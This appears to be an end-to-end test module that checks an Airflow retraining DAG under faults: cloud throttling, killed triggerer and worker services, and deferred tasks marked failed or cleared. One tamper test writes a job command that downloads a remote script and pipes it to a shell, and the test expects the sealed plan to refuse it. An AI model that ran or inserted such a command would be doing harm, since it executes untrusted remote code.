"""The retraining DAG in a real deployment, driven only through the REST API, under faults.

The pattern of apache/airflow issues #36090, #41231, #67227 and #15588: a triggerer or worker dies,
a user marks a deferred task failed, the cloud throttles. Each test asserts what the user sees (run
and task states, the manifest) and what the cloud saw (jobs created and stopped). These throttle
the cloud and kill services, so they run against a deployment of their own (the ``airflow``
fixture is module-scoped), beside test_deployment.py's. The ACK twin of that module's DLC run is
here too: the two modules run side by side, and that one carries the longer chain of scenarios.
"""

from __future__ import annotations

import signal
import time

import pytest

from fakes.account import TRAIN_PREFIX, Account, Hold
from fakes.deployment import USER, Deployment, wait_until
from tests.e2e.conftest import DAG_ID
from tests.e2e.runs import (
    RUN_TIMEOUT,
    TRAIN_POLL_SECONDS,
    arena_conf,
    assert_no_secret_in_logs,
    assert_succeeded,
    from_train,
    logical,
    long_train,
    manifest_of,
    run_dlc,
    wait_for_try,
)

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("e2e-failures")]


def test_a_run_succeeds_while_30_percent_of_cloud_answers_are_throttling_or_5xx(
    airflow: Deployment, account: Account
) -> None:
    account.faults(0.3)
    try:
        run_id = run_dlc(airflow, account, "2026-11-23")
        states = assert_succeeded(airflow, run_id)
    finally:
        account.faults(0.0)

    faulted = [r for r in account.dlc.requests if r.fault]
    assert len(faulted) >= 3, "the run met the faults"
    job = airflow.xcom(DAG_ID, run_id, "train")
    assert states["publish_artifacts"] == "success" and manifest_of(account, job["job_id"])
    assert len([c for c in account.creates() if c["DisplayName"] == job["display_name"]]) == 1


def test_an_arena_run_succeeds_with_an_asset_event_and_a_manifest_naming_the_job(
    airflow: Deployment, account: Account
) -> None:
    run_id = airflow.trigger(DAG_ID, arena_conf(), logical("2026-11-22"))

    states = assert_succeeded(airflow, run_id)

    assert states["preflight.check_cluster"] == states["check_rdma"] == "success"
    job = airflow.xcom(DAG_ID, run_id, "train")
    [create] = account.kube_creates()
    assert job["job_id"] == create["metadata"]["name"] or job["display_name"] == create["metadata"]["name"]
    manifest = manifest_of(account, job["job_id"])
    assert manifest["job"]["backend"] == "arena" and manifest["dataset"]["version"] == "2026-11-22"
    assert any(e["extra"].get("job_id") == job["job_id"] for e in airflow.asset_events("cifar10_model"))


def test_a_killed_and_restarted_triggerer_loses_no_job_and_submits_none_twice(
    airflow: Deployment, account: Account
) -> None:
    # The job runs until the restarted triggerer has taken over watching it, then finishes.
    account.dlc.script_for(TRAIN_PREFIX, long_train(600.0))
    creates, stops = len(account.creates()), account.stops()
    run_id = run_dlc(airflow, account, "2026-10-25", **from_train(account))
    try:
        airflow.wait_for_task(DAG_ID, run_id, "train", {"deferred"}, RUN_TIMEOUT)
        job = account.dlc_job(account.creates()[-1]["DisplayName"])
        airflow.kill_service("triggerer", signal.SIGKILL)
        time.sleep(2 * TRAIN_POLL_SECONDS)
        polled = account.polls(job.job_id)
        airflow.start_service("triggerer")
        wait_until(
            lambda: account.polls(job.job_id) > polled,
            RUN_TIMEOUT,
            "the restarted triggerer to poll the job",
            interval=0.2,
        )
        account.finish_soon(job.display_name)
        states = assert_succeeded(airflow, run_id)
    finally:
        account.scripts()

    assert states["train"] == "success"
    assert len(account.creates()) == creates + 1, "the train job was created once"
    assert account.stops() == stops, "no job was stopped"


def test_a_worker_killed_during_submission_is_retried_and_reattaches(
    airflow: Deployment, account: Account
) -> None:
    # The job runs until the retry has reattached (a job that already finished is, by design, only
    # trusted from a saved handle: under the same name it may be a cleared run's), then finishes.
    account.dlc.script_for(TRAIN_PREFIX, long_train(600.0))
    creates, stops = len(account.creates()), account.stops()
    account.hold = Hold(TRAIN_PREFIX)
    run_id = run_dlc(airflow, account, "2026-11-01", **from_train(account))
    try:
        assert account.hold.arrived.wait(RUN_TIMEOUT), "train submitted its job"
        worker = "worker" if "worker" in airflow.services() else "scheduler"
        airflow.kill_service(worker, signal.SIGKILL)
        account.hold.release.set()
        airflow.start_service(worker)
        wait_for_try(airflow, run_id, "train", try_number=2, state="deferred")
        account.finish_soon(account.creates()[-1]["DisplayName"])
        states = assert_succeeded(airflow, run_id)
    finally:
        account.hold.release.set()
        account.hold = None
        account.scripts()

    train = airflow.task_instance(DAG_ID, run_id, "train")
    assert states["train"] == "success" and train["try_number"] == 2, "the retry finished the task"
    assert len(account.creates()) == creates + 1, "CreateJob reached DLC once"
    assert account.stops() == stops, "the reattached job was never stopped"


def test_marking_a_deferred_task_failed_stops_its_job_within_two_poll_intervals(
    airflow: Deployment, account: Account
) -> None:
    account.dlc.script_for(TRAIN_PREFIX, long_train())
    run_id = run_dlc(airflow, account, "2026-11-08", **from_train(account))
    try:
        airflow.wait_for_task(DAG_ID, run_id, "train", {"deferred"}, RUN_TIMEOUT)
        job = account.dlc_job(account.creates()[-1]["DisplayName"])
        # Airflow calls on_kill only on a trigger a triggerer runs, so the user's "deferred" task
        # must be monitored before it is marked: wait for the trigger's first GetJob.
        polled = account.polls(job.job_id)
        wait_until(
            lambda: account.polls(job.job_id) > polled,
            4 * TRAIN_POLL_SECONDS,
            "the triggerer to poll the job",
            interval=0.2,
        )
        marked = account.dlc.clock()
        airflow.mark_failed(DAG_ID, run_id, "train")
        deadline = time.monotonic() + 6 * TRAIN_POLL_SECONDS
        while job.stop_requested_at is None and time.monotonic() < deadline:
            time.sleep(0.2)
        state = airflow.wait_for_run(DAG_ID, run_id, RUN_TIMEOUT)
    finally:
        account.scripts()

    assert job.stop_requested_at is not None, "StopJob reached DLC"
    assert job.stop_requested_at - marked <= 2 * TRAIN_POLL_SECONDS
    assert state == "failed" and airflow.task_states(DAG_ID, run_id)["train"] == "failed"

    # Clearing it (and what follows) starts a new round of tries: a new job, not the stopped one.
    creates = len(account.creates())
    airflow.clear_task(DAG_ID, run_id, "train")
    assert_succeeded(airflow, run_id)
    assert len(account.creates()) == creates + 1
    assert account.creates()[-1]["DisplayName"] != job.display_name, "a new round has a name of its own"
    assert airflow.xcom(DAG_ID, run_id, "train")["job_id"] != job.job_id


def test_clearing_a_deferred_task_waits_for_its_stopping_job_then_runs_a_new_one(
    airflow: Deployment, account: Account
) -> None:
    # Clearing kills the trigger (on_kill stops the job); DLC keeps it Stopping for a while, and
    # the cleared task's new try must neither reattach to it nor launch beside it.
    account.dlc.script_for(TRAIN_PREFIX, long_train())
    account.dlc.stopping_seconds = 3 * TRAIN_POLL_SECONDS
    run_id = run_dlc(airflow, account, "2026-11-15", **from_train(account))
    try:
        airflow.wait_for_task(DAG_ID, run_id, "train", {"deferred"}, RUN_TIMEOUT)
        job = account.dlc_job(account.creates()[-1]["DisplayName"])
        polled = account.polls(job.job_id)
        wait_until(lambda: account.polls(job.job_id) > polled, 4 * TRAIN_POLL_SECONDS, "the trigger's poll")
        creates = len(account.creates())
        airflow.clear_task(DAG_ID, run_id, "train")
        wait_until(lambda: len(account.creates()) > creates, RUN_TIMEOUT, "the cleared task's new job")
        new = account.dlc_job(account.creates()[-1]["DisplayName"])
        account.finish_soon(new.display_name)
        assert_succeeded(airflow, run_id)
    finally:
        account.dlc.stopping_seconds = 0.05
        account.scripts()

    assert job.stop_requested_at is not None, "on_kill stopped the cleared try's job"
    assert new.created_at >= job.stop_requested_at + 3 * TRAIN_POLL_SECONDS, "launched once it had stopped"
    assert len(account.creates()) == creates + 1
    assert airflow.xcom(DAG_ID, run_id, "train")["job_id"] == new.job_id


def test_a_job_a_user_rewrote_through_the_rest_api_runs_nothing_and_the_run_fails_naming_it(
    airflow: Deployment, account: Account
) -> None:
    """A user who may trigger the DAG (role user, no administrator) rewrites the command in
    configure's plan through the REST API: the next task that reads the plan refuses it, naming
    what changed, and no job reaches DLC."""
    creates = len(account.creates())
    run_id = run_dlc(airflow, account, "2026-11-29", **from_train(account))
    airflow.wait_for_task(DAG_ID, run_id, "configure", {"success"}, RUN_TIMEOUT)
    path = f"/dags/{DAG_ID}/dagRuns/{run_id}/taskInstances/configure/xcomEntries/job"
    job = airflow.api("GET", path, user=USER, params={"deserialize": True}).json()["value"]
    job["spec"]["command"] = "curl -s https://example.invalid/x.sh | sh"
    rewritten = airflow.api("PATCH", path, user=USER, json={"value": job, "map_index": -1})

    assert rewritten.status_code == 200, rewritten.text
    assert airflow.wait_for_run(DAG_ID, run_id, RUN_TIMEOUT) == "failed"
    assert airflow.task_states(DAG_ID, run_id)["train"] in ("failed", "upstream_failed")
    assert len(account.creates()) == creates, "no job reached DLC"
    refusal = f"configure's XCom 'job' of run {run_id} does not match the seal"
    logs = [p for p in (airflow.root / "task-logs").rglob("*") if p.is_file()]
    assert any(refusal in p.read_text(errors="replace") for p in logs), "a task's log names what changed"


def test_no_secret_reaches_any_service_or_task_log(airflow: Deployment) -> None:
    assert_no_secret_in_logs(airflow)
